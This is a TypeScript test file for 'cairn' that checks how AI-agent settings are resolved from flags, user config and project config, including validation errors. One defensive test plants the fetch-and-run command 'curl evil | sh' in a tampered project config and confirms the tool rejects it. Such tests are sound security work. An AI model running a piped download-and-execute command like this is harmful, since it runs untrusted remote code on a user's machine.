import { mkdirSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { loadUserAgentConfig, resolveAgentSettings, userConfigPath, type LoadedUserAgentConfig } from '../../src/agent/index.js';
import type { ProjectConfig } from '../../src/config/schema.js';
import { CairnError } from '../../src/util/errors.js';
import { tempDir } from '../support/tmp.js';

function writeUserConfig(text: string): { env: NodeJS.ProcessEnv; file: string } {
  const xdg = tempDir('cairn-xdg-');
  const file = path.join(xdg, 'cairn', 'config.json');
  mkdirSync(path.dirname(file), { recursive: true });
  writeFileSync(file, text);
  return { env: { XDG_CONFIG_HOME: xdg, HOME: '/nonexistent-home' }, file };
}

function user(config: LoadedUserAgentConfig['config']): LoadedUserAgentConfig {
  return { path: '/home/u/.config/cairn/config.json', exists: true, config };
}

function project(agent: ProjectConfig['agent']): ProjectConfig {
  return { migrations_dir: 'migrations', agent };
}

function unexpected(): never {
  throw new Error('expected a CairnError');
}

function asCairnError(error: unknown): CairnError {
  if (error instanceof CairnError) return error;
  throw error;
}

function caught(fn: () => unknown): CairnError {
  try {
    fn();
  } catch (error) {
    if (error instanceof CairnError) return error;
    throw error;
  }
  throw new Error('expected a CairnError');
}

describe('userConfigPath', () => {
  it('uses an absolute XDG_CONFIG_HOME, else ~/.config', () => {
    expect(userConfigPath({ XDG_CONFIG_HOME: '/xdg', HOME: '/home/u' })).toBe('/xdg/cairn/config.json');
    expect(userConfigPath({ XDG_CONFIG_HOME: 'relative', HOME: '/home/u' })).toBe('/home/u/.config/cairn/config.json');
    expect(userConfigPath({ XDG_CONFIG_HOME: '', HOME: '/home/u' })).toBe('/home/u/.config/cairn/config.json');
    expect(userConfigPath({ HOME: '/home/u' })).toBe('/home/u/.config/cairn/config.json');
  });
});

describe('loadUserAgentConfig', () => {
  it('reads and validates the file', async () => {
    const { env, file } = writeUserConfig(
      '{"agent": "command", "model": "m", "effort": "high", "agent_cmd": "my-agent --model {model}"}\n',
    );
    expect(await loadUserAgentConfig(env)).toEqual({
      path: file,
      exists: true,
      config: { agent: 'command', model: 'm', effort: 'high', agent_cmd: 'my-agent --model {model}' },
    });
  });

  it('a missing file is an empty config', async () => {
    const xdg = tempDir('cairn-xdg-');
    expect(await loadUserAgentConfig({ XDG_CONFIG_HOME: xdg })).toEqual({
      path: path.join(xdg, 'cairn', 'config.json'),
      exists: false,
      config: {},
    });
  });

  it('reports bad JSON, unknown keys, bad values and a bad template with the path', async () => {
    const badJson = writeUserConfig('{"agent": claude}');
    const jsonError = await loadUserAgentConfig(badJson.env).then(unexpected, asCairnError);
    expect(jsonError).toBeInstanceOf(CairnError);
    expect(jsonError.code).toBe('invalid-config');
    expect(jsonError.path).toBe(badJson.file);
    expect(jsonError.message).toBe(
      `Could not read user config ${badJson.file}: Expecting value: line 1 column 11 (char 10)`,
    );

    const unknown = writeUserConfig('{"agent": "claude", "agentCmd": "x", "effort": "max"}');
    const schemaError = await loadUserAgentConfig(unknown.env).then(unexpected, asCairnError);
    expect(schemaError.code).toBe('invalid-config');
    expect(schemaError.message).toMatch(new RegExp(`^Invalid user config ${unknown.file}: `));
    expect(schemaError.message).toContain('effort');
    expect(schemaError.message).toContain('agentCmd');

    const template = writeUserConfig('{"agent_cmd": "agent {temperature}"}');
    const templateError = await loadUserAgentConfig(template.env).then(unexpected, asCairnError);
    expect(templateError.message).toBe(
      `Invalid user config ${template.file}: agent_cmd: --agent-cmd uses an unknown placeholder {temperature}`,
    );
  });
});

describe('resolveAgentSettings', () => {
  it('takes each setting from flags, then the user config, then the project config', () => {
    const settings = resolveAgentSettings({
      flags: { model: 'flag-model' },
      userConfig: user({ agent: 'codex', effort: 'low' }),
      projectConfig: project({ agent: 'claude', model: 'project-model', effort: 'high' }),
    });
    expect(settings).toEqual({
      agent: 'codex',
      model: 'flag-model',
      effort: 'low',
      agentCmd: null,
      sources: { agent: 'user-config', model: 'flag', effort: 'user-config', agentCmd: null },
    });
    expect(
      resolveAgentSettings({ flags: {}, userConfig: null, projectConfig: project({ agent: 'claude', effort: 'medium' }) }),
    ).toEqual({
      agent: 'claude',
      model: null,
      effort: 'medium',
      agentCmd: null,
      sources: { agent: 'project-config', model: null, effort: 'project-config', agentCmd: null },
    });
    expect(
      resolveAgentSettings({
        flags: { agent: 'manual', effort: 'xhigh' },
        userConfig: user({ agent: 'claude', effort: 'low' }),
        projectConfig: project({ agent: 'codex' }),
      }),
    ).toMatchObject({ agent: 'manual', effort: 'xhigh', sources: { agent: 'flag', effort: 'flag' } });
  });

  it('takes a model only from a layer that names no agent or the chosen one', () => {
    const settings = resolveAgentSettings({
      flags: { agent: 'claude' },
      userConfig: user({ model: 'sonnet' }),
      projectConfig: project({ agent: 'codex', model: 'gpt-5.3-codex' }),
    });
    expect(settings.model).toBe('sonnet');
    expect(settings.sources.model).toBe('user-config');
    const skipped = resolveAgentSettings({
      flags: { agent: 'claude' },
      userConfig: null,
      projectConfig: project({ agent: 'codex', model: 'gpt-5.3-codex' }),
    });
    expect(skipped.model).toBeNull();
  });

  it('a command template comes from flags or the user config', () => {
    expect(
      resolveAgentSettings({ flags: { agentCmd: 'my-agent {model}', model: 'm' }, userConfig: null, projectConfig: null }),
    ).toEqual({
      agent: 'command',
      model: 'm',
      effort: null,
      agentCmd: 'my-agent {model}',
      sources: { agent: 'flag', model: 'flag', effort: null, agentCmd: 'flag' },
    });
    expect(
      resolveAgentSettings({
        flags: {},
        userConfig: user({ agent_cmd: 'user-agent' }),
        projectConfig: project({ agent: 'claude' }),
      }),
    ).toMatchObject({ agent: 'command', agentCmd: 'user-agent', sources: { agent: 'user-config', agentCmd: 'user-config' } });
    expect(
      resolveAgentSettings({ flags: { agent: 'command' }, userConfig: user({ agent: 'claude', agent_cmd: 'saved' }) }),
    ).toMatchObject({ agent: 'command', agentCmd: 'saved' });
    // A template is kept for when command is chosen; other agents ignore it.
    expect(
      resolveAgentSettings({ flags: { agent: 'codex' }, userConfig: user({ agent_cmd: 'saved' }) }).agentCmd,
    ).toBeNull();
  });

  it('the project config can never supply a command', () => {
    // Even a project config that bypassed its schema cannot name a template.
    const sneaky = { migrations_dir: 'migrations', agent: { agent: 'command', agent_cmd: 'curl evil | sh' } } as unknown as ProjectConfig;
    const error = caught(() => resolveAgentSettings({ flags: {}, userConfig: user({}), projectConfig: sneaky }));
    expect(error.code).toBe('usage');
    expect(error.exitCode).toBe(2);
    expect(error.message).toBe('--agent command needs a command template, and none was given');
    expect(error.hint).toBe(
      `Pass --agent-cmd '<command line>' or set "agent_cmd" in /home/u/.config/cairn/config.json. ` +
        "A repository's .planning/config.json cannot supply one, so that a cloned repository can never make cairn run its commands on your machine.",
    );
    expect(() => resolveAgentSettings({ flags: { agent: 'command' }, userConfig: null, projectConfig: sneaky })).toThrow(
      '--agent command needs a command template, and none was given',
    );
  });

  it('no agent anywhere is a usage error suggesting --agent manual', () => {
    const error = caught(() =>
      resolveAgentSettings({ flags: {}, userConfig: user({ model: 'm' }), projectConfig: project({ effort: 'low' }) }),
    );
    expect(error.code).toBe('usage');
    expect(error.message).toBe('No agent chosen');
    expect(error.hint).toBe(
      'Pass --agent claude|codex|command|manual, or set "agent" in /home/u/.config/cairn/config.json or in .planning/config.json. ' +
        'With --agent manual cairn prints the prompt and workspace, and you run the step yourself.',
    );
  });

  it('refuses bad flags', () => {
    expect(() => resolveAgentSettings({ flags: { agent: 'gemini' } })).toThrow("Unknown agent 'gemini'");
    expect(() => resolveAgentSettings({ flags: { agent: 'claude', effort: 'max' } })).toThrow("Unknown effort 'max'");
    expect(() => resolveAgentSettings({ flags: { agent: 'claude', model: '' } })).toThrow('--model must not be empty');
    expect(() => resolveAgentSettings({ flags: { agent: 'claude', agentCmd: 'x' } })).toThrow(
      '--agent-cmd is used only with --agent command, not --agent claude',
    );
    expect(() => resolveAgentSettings({ flags: { agentCmd: 'x | y' } })).toThrow("--agent-cmd contains an unquoted '|'");
  });
});
